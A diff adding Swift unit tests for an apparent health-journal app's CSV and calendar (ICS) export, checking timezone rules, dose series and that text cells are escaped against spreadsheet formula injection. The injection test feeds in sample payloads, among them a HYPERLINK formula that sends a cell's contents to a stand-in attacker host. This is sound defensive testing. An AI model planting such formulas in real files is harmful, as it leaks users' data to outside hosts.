@@ -113,4 +113,106 @@ final class ExportRendererTests: XCTestCase {
         XCTAssertTrue(rows.contains("2026-11-21,07:45,drink,espresso x2,,,126,60,6,0,0,0,0,0,0,0,,work,"), csv)
         XCTAssertTrue(rows.contains("2026-11-21,,mood,,,,,,,,,,,,,,4,,\"\"\"good\"\", slow\""), csv)
     }
+
+    /// The fields of CSV text (RFC 4180), row by row.
+    func csvRows(_ csv: String) -> [[String]] {
+        var rows: [[String]] = [], row: [String] = [], field = "", quoted = false
+        var chars = Array(csv.unicodeScalars)[...]
+        while let c = chars.popFirst() {
+            if quoted {
+                if c == "\"" {
+                    if chars.first == "\"" { field.unicodeScalars.append(chars.removeFirst()) } else { quoted = false }
+                } else { field.unicodeScalars.append(c) }
+            } else if c == "\"" { quoted = true
+            } else if c == "," { row.append(field); field = ""
+            } else if c == "\r", chars.first == "\n" { chars.removeFirst(); row.append(field); rows.append(row); row = []; field = ""
+            } else { field.unicodeScalars.append(c) }
+        }
+        return rows
+    }
+
+    func testCSVTextCellsAreNeverFormulasAndNumbersStayNumbers() {
+        let csv = CSVRenderer.entries(F.load("""
+            ## Settings
+            - habit "=cmd"
+            - med "+med" 5 mg at 08:00
+            - drink "-drink" per cup (200 ml): 10 mg caffeine
+            - drink "@drink" per cup (200 ml): 10 mg caffeine
+
+            ## 2026-11-20
+            - 08:00 drink -drink x2 -- -5
+            - 08:01 drink @drink
+            - 08:05 took +med
+            - [x] =cmd
+            - mood 2 #=tag
+            - 09:00 @event at =place
+            - [ ] =HYPERLINK("http://evil.example/?"&A1,"click")
+            - 10:00 =1+2 note
+            - 11:00 -3 degrees outside
+            - weight 63.4 kg
+
+            """), period: nil)
+        let rows = csvRows(csv)
+        let header = rows[0]
+        let textColumns = ["kind", "name", "unit", "tags", "note"]
+        XCTAssertEqual(rows.count, 11, csv)
+        var seen = Set<String>()
+        for row in rows.dropFirst() {
+            XCTAssertEqual(row.count, header.count, "\(row)")
+            for (name, cell) in zip(header, row) where textColumns.contains(name) {
+                if let first = cell.unicodeScalars.first {
+                    XCTAssertFalse("=+-@\t\r".unicodeScalars.contains(first), "\(name): \(cell)")
+                    if first == "'" { seen.insert(name) }
+                }
+            }
+        }
+        // (A tag begins with a letter: `#=tag` is text of the note.)
+        XCTAssertEqual(seen, ["name", "note"], csv)
+        XCTAssertTrue(rows.contains { $0[3] == "'-drink x2" && $0.last == "'-5" }, csv)
+        XCTAssertTrue(rows.contains { $0[3] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" }, csv)
+        XCTAssertTrue(rows.contains { $0[2] == "note" && $0.last == "'-3 degrees outside" }, csv)
+        XCTAssertTrue(rows.contains { $0[2] == "weight" && $0[4] == "63.4" && $0[5] == "kg" }, csv)
+        XCTAssertEqual(CSVRenderer.text("-5"), "'-5", "a text cell that looks like a number is still text")
+        XCTAssertEqual(CSVRenderer.text("\tx"), "'\tx")
+        XCTAssertEqual(CSVRenderer.text("\ry"), "'\u{240D}y")
+        XCTAssertEqual(CSVRenderer.text("a\u{1B}[2Jb"), "a\u{241B}[2Jb")
+        XCTAssertEqual(CSVRenderer.text("a-b"), "a-b")
+    }
+
+    // MARK: Calendar times
+
+    func testAWeeklySeriesStartsOnItsFirstDose() {
+        let j = F.load("## Settings\n- med vitamin-d 1000 IU at 09:00 on mon, thu\n- med iron 5 mg at 08:00 on sun until 2026-11-07\n## 2026-10-30\n- mood 3\n")
+        // November 2026 begins on a Sunday.
+        let ics = ICSRenderer.calendar(CalendarExport(journal: j, period: .month(year: 2026, month: 11), clock: F.endOf("2026-11-21")))
+        XCTAssertTrue(ics.contains("DTSTART:20261102T090000\r\nDURATION:PT15M\r\nRRULE:FREQ=WEEKLY;BYDAY=MO,TH;UNTIL=20261130T090000\r\n"), ics)
+        XCTAssertTrue(ics.contains("DTSTART:20261101T080000\r\nDURATION:PT15M\r\nRRULE:FREQ=WEEKLY;BYDAY=SU;UNTIL=20261107T080000\r\n"), ics)
+        // A series with no dose left in the period is left out.
+        let none = ICSRenderer.calendar(CalendarExport(journal: j, period: Period(start: CalendarDate(iso: "2026-11-02")!, end: CalendarDate(iso: "2026-11-07")!, kind: .range, label: "x"),
+                                                       clock: F.endOf("2026-11-21")))
+        XCTAssertFalse(none.contains("Take iron"), none)
+    }
+
+    func testUTCIsWrittenInUTCWithoutAVTimezone() {
+        let ics = calendar("## Settings\n- set timezone UTC\n- med metformin 500 mg at 08:00 until 2026-12-01\n## 2026-11-20\n- 10:00 appt GP\n")
+        XCTAssertFalse(ics.contains("VTIMEZONE"), ics)
+        XCTAssertFalse(ics.contains("TZID"), ics)
+        XCTAssertTrue(ics.contains("DTSTART:20261120T100000Z\r\n"), ics)
+        XCTAssertTrue(ics.contains("DTSTART:20261120T080000Z\r\n"), ics)
+        XCTAssertTrue(ics.contains(";UNTIL=20261201T080000Z\r\n"), ics)
+    }
+
+    func testAZonesChangesRepeatEveryYearAfterTheLast() {
+        let ics = calendar(text + "## Settings\n- set timezone Europe/London\n")
+        XCTAssertTrue(ics.contains("BEGIN:DAYLIGHT\r\nDTSTART:20260329T010000\r\nRRULE:FREQ=YEARLY;BYMONTH=3;BYDAY=-1SU\r\nTZOFFSETFROM:+0000\r\nTZOFFSETTO:+0100\r\n"), ics)
+        XCTAssertTrue(ics.contains("BEGIN:STANDARD\r\nDTSTART:20261025T020000\r\nRRULE:FREQ=YEARLY;BYMONTH=10;BYDAY=-1SU\r\n"), ics)
+        XCTAssertEqual(ics.components(separatedBy: "RRULE:FREQ=YEARLY").count - 1, 2, "only the last year's changes repeat")
+    }
+
+    func testTheStampOfTheLastDayStaysInTheYear9999() {
+        let ics = calendar("## 9999-12-30\n- 10:00 appt GP\n", clock: F.endOf("9999-12-31"))
+        XCTAssertTrue(ics.contains("DTSTAMP:99991231T235959Z\r\n"), ics)
+        XCTAssertFalse(ics.contains("DTSTAMP:1000"), ics)
+    }
 }
+
